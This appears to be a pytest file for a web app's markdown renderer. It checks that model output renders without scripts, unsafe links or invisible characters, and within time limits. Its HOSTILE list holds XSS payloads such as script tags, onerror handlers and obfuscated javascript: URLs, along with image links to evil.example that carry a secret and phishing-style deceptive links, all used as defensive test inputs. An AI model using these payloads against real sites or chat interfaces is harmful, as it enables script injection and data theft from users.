"""Markdown of models: what it becomes, what stays text, and how long it takes at most."""

import html.parser
import re
import time

import pytest
from pygments.lexers import find_lexer_class_by_name

from ripieno.servers.web.markdown import LANGUAGES, MOST_BRACKETS, MOST_CHARACTERS, MarkdownRenderer, render
from tests.servers.web.conftest import Connect
from tests.support.scripted_models import says, scripted

JSON = {"content-type": "application/json"}
TAGS = frozenset(
    (
        *("a", "blockquote", "br", "code", "div", "em", "h1", "hr", "li", "ol", "p", "pre", "s", "span", "strong"),
        *("table", "tbody", "td", "th", "thead", "tr", "ul"),
    )
)
ATTRIBUTES = frozenset({"class", "href", "rel", "start", "target"})


class Tags(html.parser.HTMLParser):
    """Notes each tag and attribute, and the addresses of links."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name == "href":
                self.addresses.append(value or "")


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "![x](https://evil.example/?secret=1)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x) [r](/api/session) [p](//evil.example) [q](#code=1)",
    "<javascript:alert(1)>",
    "[x](https:///evil.example) [y](https:\\\\evil.example) [z](https://[)",
    '[x](https://a.example "title\\" onmouseover=alert(1) x=\\"")',
    '``` "><script>alert(1)</script>\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script>",
    "[a]: https://a.example '\"><script>alert(1)</script>'\n\n[a]",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", ["{}", "> {}", "- {}", "# {}", "**{}**", "[{}](https://a.example)"])
def test_hostile_text_becomes_no_active_content(text: str, form: str) -> None:
    found = Tags(render(form.format(text)))
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    assert all(re.match(r"(https?://[^/\\]|mailto:)", one) for one in found.addresses)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", "a\\u202eb"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("`a\u2066b`", "a\\u2066b"),
        ("```\na\u200bb\n```", "a\\u200bb"),
        ("[a\u202eb](https://a.example)", "a\\u202eb"),
    ],
)
def test_hidden_characters_are_shown(text: str, shown: str) -> None:
    assert shown in render(text)


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("[bank.example](https://evil.example/bank.example)", "(evil.example)"),
        ("[x](https://bank.example@evil.example)", "(evil.example)"),
        ("[x](https://bank.example\\@evil.example)", "(evil.example)"),
        ("[x](mailto:a@evil.example)", "(a@evil.example)"),
        ("[x](https://b\u00fccher.example)", "(xn--bcher-kva.example)"),
        ("[**x** `y`](https://evil.example)", "(evil.example)"),
    ],
)
def test_a_link_shows_where_it_goes(text: str, place: str) -> None:
    assert f'<span class="host">{place}</span>' in render(text)
    assert 'target="_blank" rel="noreferrer noopener"' in render(text)


def test_an_address_is_shown_once() -> None:
    assert 'class="host"' not in render("<https://a.example/b>")


def test_code_has_classes() -> None:
    assert '<span class="k">def</span>' in render("```python\ndef f(): ...\n```")
    assert render("```unknown\nx\n```") == '<pre><code class="language-unknown">x\n</code></pre>\n'


@pytest.mark.parametrize("text", ["[" * (MOST_BRACKETS + 1), "x<" * MOST_CHARACTERS])
def test_what_takes_long_stays_plain(text: str) -> None:
    assert render(text) == f'<div class="plain">{text.replace("<", "&lt;")}</div>\n'


@pytest.mark.parametrize(
    "text",
    [
        *("[" * MOST_BRACKETS, "[a](" * MOST_BRACKETS, "[a]: x\n" * MOST_BRACKETS, ">" * MOST_CHARACTERS),
        *("*a_ " * (MOST_CHARACTERS // 4), "`" * MOST_CHARACTERS, "- " * (MOST_CHARACTERS // 2)),
        *("<a " * (MOST_CHARACTERS // 3), "&" * MOST_CHARACTERS, "|a|b|\n|-|-|\n" + "|a|b|\n" * 9000),
        *(
            f"```{name}\n{part * 16000}"[:16000]
            for name in ("python", "html", "bash", "sql")
            for part in ("(", '"', "<a")
        ),
    ],
)
def test_no_text_takes_long(text: str) -> None:
    began = time.process_time()
    render(text)
    # Usually a tenth of it.
    assert time.process_time() - began < 3


async def test_each_text_is_rendered_once() -> None:
    renderer = MarkdownRenderer()
    first = await renderer.render(["*a*", "*b*", "*a*"])
    assert first == ["<p><em>a</em></p>\n", "<p><em>b</em></p>\n", "<p><em>a</em></p>\n"]
    (again,) = await renderer.render(["*a*"])
    assert again is first[0]


async def test_texts_over_http(connect: Connect) -> None:
    async with connect(scripted(says("Yes."))) as (_, client):
        answer = await client.post("api/markdown", json={"texts": ["**a**", "<b>"]})
        assert answer.json() == {"html": ["<p><strong>a</strong></p>\n", "<p>&lt;b&gt;</p>\n"]}
        for wrong in ({}, {"texts": "a"}, {"texts": [1]}, {"texts": ["a"] * 501}):
            assert (await client.post("api/markdown", json=wrong)).status_code == 400
        assert (await client.post("api/markdown", json={"texts": ["a" * 3_000_000]})).status_code == 413
        # Half of a character, as an escape and as bytes.
        for half in (b"\\ud800", b"\xed\xa0\x80"):
            wrong = await client.post("api/markdown", content=b'{"texts": ["a", "%s"]}' % half, headers=JSON)
            assert (wrong.status_code, wrong.json()["error"]["code"]) == (400, "invalid_json")


def test_tasks_have_boxes() -> None:
    html = render("- [ ] one\n- [x] two\n- [y] three\n\n[ ] four")
    assert re.findall("<(?:li|p)>(.*?)</", html) == ["☐ one", "☑ two", "[y] three", "[ ] four"]


def test_alignment_is_a_class() -> None:
    assert '<td class="right">1</td>' in render("|a|\n|-:|\n|1|")


@pytest.mark.parametrize("name", LANGUAGES.split())
def test_pygments_knows_all_languages(name: str) -> None:
    assert find_lexer_class_by_name(name)
    assert f'<code class="language-{name}">' in render(f"```{name}\nx\n```")
